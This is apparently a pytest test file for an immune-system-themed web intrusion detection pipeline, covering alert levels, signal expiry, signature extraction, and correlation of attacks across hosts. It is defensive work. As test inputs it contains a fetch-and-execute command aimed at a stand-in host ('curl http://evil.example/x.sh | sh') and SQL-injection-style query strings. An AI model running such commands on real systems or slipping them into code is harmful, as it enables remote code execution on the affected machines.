import pytest

from agents.cytokines import Temperature, for_verdict, make, sort_out
from agents.dendritic import Correlator
from schemas.contracts import validate


def test_temperature_rises_decays_caps_and_names_its_state() -> None:
    t = Temperature()
    assert t.apply([], 0.0) == "REST"
    pro = [make("TNF", "x", 5, {}, "systemic", 60, 0.0)] * 3
    assert t.apply(pro, 0.0) == "VIGILANCE" and round(t.celsius, 2) == 37.1
    t.apply([make("TNF", "x", 5, {}, "systemic", 60, 0.0)] * 30, 0.0)
    assert t.celsius == 42.0 and t.state == "INFLAMMATION"
    t.apply([], 3600.0)
    assert t.state == "REST"
    before = t.celsius
    t.apply([make("IL10", "x", 2, {}, "systemic", 60, 3600.0)], 3600.0)
    assert round(before - t.celsius, 6) == 0.1


def test_expired_and_misaddressed_are_dropped() -> None:
    fresh = make("IL8", "n", 3, {}, "dendritic", 10, 100.0)
    old = make("IL8", "n", 3, {}, "dendritic", 10, 50.0)
    lost = make("IL8", "n", 3, {}, "the moon", 10, 100.0)
    good, expired, misaddressed = sort_out([fresh, old, lost], 105.0)
    assert (good, expired, misaddressed) == ([fresh], 1, 1)
    validate("cytokine", fresh)


def test_verdicts_make_cytokines() -> None:
    verdict = {"final_verdict": "MALICIOUS", "severity": "CRITICAL", "entity": "e", "event_ids": ["ev"],
               "verdict_id": "v", "evidence": [{"stage": "macrophage", "score": 0.9, "investigate": True}]}
    kinds = [c["type"] for c in for_verdict(verdict, ["rule:1001"], 1.0)]
    assert kinds == ["TNF", "IL12"]
    assert for_verdict({**verdict, "final_verdict": "BENIGN"}, [], 1.0) == []


def test_dendritic_expansion_then_coordinated_attack_once_each() -> None:
    cell = Correlator()
    raised = [cell.observe("rule:1001", f"host-{i % 4}", f"e{i}", float(i)) for i in range(12)]
    found = [(i, r["title"].split(":")[1].split(" of ")[0].strip()) for i, r in enumerate(raised) if r]
    assert found == [(4, "clonal expansion"), (9, "coordinated attack")]
    verdict = raised[9]
    assert verdict is not None and verdict["scope"] == "entity" and len(verdict["evidence_event_ids"]) == 10
    validate("verdict", verdict)


def test_one_entity_repeating_itself_is_not_a_correlation_and_the_window_forgets() -> None:
    cell = Correlator()
    assert all(cell.observe("sig", "same", f"e{i}", float(i)) is None for i in range(20))
    assert cell.observe("other", "a", "x", 0.0) is None
    assert all(cell.observe("other", f"b{i}", f"y{i}", 1000.0 + i * 100) is None for i in range(6))


def test_a_storm_folds_low_priority_signals_per_signature_and_entity() -> None:
    from agents import cytokines

    def signal(priority: int, entity: str, signature: str = "rule:942100") -> dict[str, object]:
        return cytokines.make("TNF", "immune", priority, {"entity": entity, "signature": signature,
                                                          "event_id": None}, "dendritic", 60.0, 1000.0)

    storm = [signal(5, "a")] * 30 + [signal(5, "b")] * 10 + [signal(9, "a")] * 3 + [signal(3, "a", "rule:1")]
    kept, folded = cytokines.aggregate(storm)
    assert folded == 44 - len(kept)
    assert sum(1 for c in kept if c["priority"] == 9) == 3  # high priority: every one handled
    low = {(c["payload"]["entity"], c["payload"]["signature"]): c["payload"]["aggregated"]
           for c in kept if c["priority"] < 7}
    assert low == {("a", "rule:942100"): 30, ("b", "rule:942100"): 10, ("a", "rule:1"): 1}


def _profile_evidence(feature: str, observed: str, score: float = 0.6) -> list[dict[str, object]]:
    return [{"stage": "hpc_profile", "score": score, "detail": "anomalous", "feature": feature,
             "observed": observed}]


def test_signatures_name_the_anomalous_value_and_its_iocs_never_the_request_shape() -> None:
    from agents.dendritic import Correlator, signatures_of
    from tests.conftest import make_event

    def item(entity: str, uri: str) -> dict[str, object]:
        event = make_event(entity=entity, uri=uri, headers={"host": "shop.example"})
        return {"event": event, "reflex": {"matches": []}}

    value = "curl http://evil.example/x.sh | sh"
    first = signatures_of(item("10.0.0.1", "/a?cmd=x&n=17"), _profile_evidence("param:cmd", value))
    again = signatures_of(item("10.0.0.2", "/b?n=4242"), _profile_evidence("param:cmd", value.upper()))
    assert first[0].startswith("value:") and first[0] == again[0]  # case and numbers do not change it
    assert "ioc:domain:evil.example" in first and not any("shop.example" in s for s in first)
    # a request nothing found anomalous has no signature, however long or common its payload: the issue's
    # cascade came from fingerprinting whole payloads (an empty-cart button's is the same in attacks and not)
    cart = item("10.0.0.3", "/tienda1/publico/vaciar.jsp?B2=Vaciar+carrito")
    assert signatures_of(cart, []) == []
    assert signatures_of(cart, _profile_evidence("param:B2", "Vaciar carrito", score=0.35)) == []
    assert signatures_of(item("10.0.0.3", "/a?q=-1"), _profile_evidence("param:q", "-1")) == []  # too short

    correlator = Correlator()
    raised = [correlator.observe(first[0], f"10.0.0.{i}", f"e{i}", 100.0 + i) for i in range(10)]
    assert [r["title"].split(": ")[1].split(" of ")[0] for r in raised if r] == ["clonal expansion",
                                                                              "coordinated attack"]


def test_a_rule_usual_on_the_endpoint_is_no_signature() -> None:
    from agents.dendritic import signatures_of
    from agents.profiles import EndpointProfiles
    from tests.conftest import make_event

    profiles = EndpointProfiles()
    normal = make_event(uri="/shop/search?q=o%27brien")
    profiles.train([{"event": normal, "reflex": {"matches": [{"rule_id": 1004}]}} for _ in range(100)])
    hit = {"event": make_event(uri="/shop/search?q=x%27--"), "reflex": {"matches": [{"rule_id": 1004},
                                                                                   {"rule_id": 1001}]}}
    assert signatures_of(hit, [], profiles) == ["rule:1001"]
    elsewhere = {"event": make_event(uri="/shop/cart?q=x%27--"), "reflex": {"matches": [{"rule_id": 1004}]}}
    assert signatures_of(elsewhere, [], profiles) == ["rule:1004"]


def test_a_clonal_expansion_puts_the_signature_of_its_malicious_part_under_scrutiny() -> None:
    from agents.dendritic import SCRUTINY_S, Correlator
    from agents.macrophage import Macrophage
    from agents.pipeline import judge
    from tests.conftest import judging_stages, make_event

    correlator = Correlator()
    assert correlator.scrutinised(["rule:942100"], 100.0) is None
    for i in range(5):
        correlator.observe("rule:942100", f"10.0.0.{i}", f"e{i}", 100.0 + i)
    assert correlator.scrutinised(["value:ab", "rule:942100"], 110.0) == "rule:942100"
    assert correlator.scrutinised(["rule:942100"], 104.0 + SCRUTINY_S + 1) is None

    stages = judging_stages(Macrophage())
    now = 1_763_800_000.0
    for i in range(5):
        stages.correlator.observe("rule:942100", f"10.0.0.{i}", f"e{i}", now + i)

    def item(matches: list[dict[str, object]]) -> dict[str, object]:
        return {"event": make_event(), "neutrophil": {"score": 0.3, "response": "monitor_30m"},
                "reflex": {"decision": "ALLOW", "threat": 0.0, "anomaly": 0.0, "matches": matches}}

    plain = judge(stages, [item([])], {}, now=now + 10).verdicts[0]
    watched = judge(stages, [item([{"rule_id": 942100}])], {}, now=now + 10).verdicts[0]
    assert not any(e["stage"] == "dendritic" for e in plain["evidence"])  # nothing malicious in it to match
    assert watched["score"] > plain["score"] and watched["final_verdict"] != "BENIGN"
    assert any(e["stage"] == "dendritic" and "under scrutiny" in e["detail"] for e in watched["evidence"])


def test_a_signature_raises_again_in_a_later_campaign() -> None:
    cell = Correlator()
    first = [cell.observe("rule:1001", f"host-{i % 4}", f"e{i}", float(i)) for i in range(5)]
    assert first[4] is not None  # clonal expansion
    later = 1000.0  # the first campaign left the window long ago
    again = [cell.observe("rule:1001", f"host-{i % 4}", f"f{i}", later + i) for i in range(5)]
    assert [i for i, r in enumerate(again) if r] == [4], "the second campaign went unreported"


def test_memory_stays_bounded_under_a_flood_of_distinct_signatures(monkeypatch: pytest.MonkeyPatch) -> None:
    from agents import dendritic

    monkeypatch.setattr(dendritic, "MAX_SIGNATURES", 1_000)
    cell = Correlator()
    for i in range(20_000):  # attacker-chosen values, all inside one window
        cell.observe(f"value:{i}", f"host-{i % 3}", f"e{i}", 10.0 + i * 1e-4)
    assert len(cell.sightings) <= 1_000 and len(cell.raised) <= 1_000
    for i in range(3):  # and what left the window is forgotten
        cell.observe(f"late:{i}", "h", f"l{i}", 10_000.0)
    assert len(cell.sightings) == 3
    expanded = [cell.observe("rule:1", f"host-{i % 4}", f"g{i}", 10_001.0 + i) for i in range(5)]
    assert expanded[4] is not None  # a real expansion still gets through after the flood


@pytest.mark.parametrize("score", [0.0, 0.35, 0.49994, 0.49995, 0.5, 0.9])
@pytest.mark.parametrize("matches", [[], [{"rule_id": 942100}]])
@pytest.mark.parametrize("stage", ["hpc_profile", "hpc", "neutrophil"])
def test_an_event_the_cheap_check_passes_over_has_no_signature(score: float, matches: list[dict[str, object]],
                                                                stage: str) -> None:
    """The judgement skips ``signatures_of`` where ``may_have_signatures`` is False: it must never skip one."""
    from agents.dendritic import may_have_signatures, signatures_of
    from agents.types import Finding
    from tests.conftest import make_event

    item = {"event": make_event(uri="/a?cmd=x"), "reflex": {"matches": matches}}
    observed = {"feature": "param:cmd", "observed": "curl http://evil.example/x.sh | sh"}
    findings = [Finding("neutrophil", 0.9), Finding(stage, score, "anomalous", observed)]
    found = signatures_of(item, [f.as_evidence() for f in findings], with_iocs=False)
    assert may_have_signatures(item, findings) or found == []
    assert may_have_signatures(item, findings) == bool(found)  # no false hope either, for these
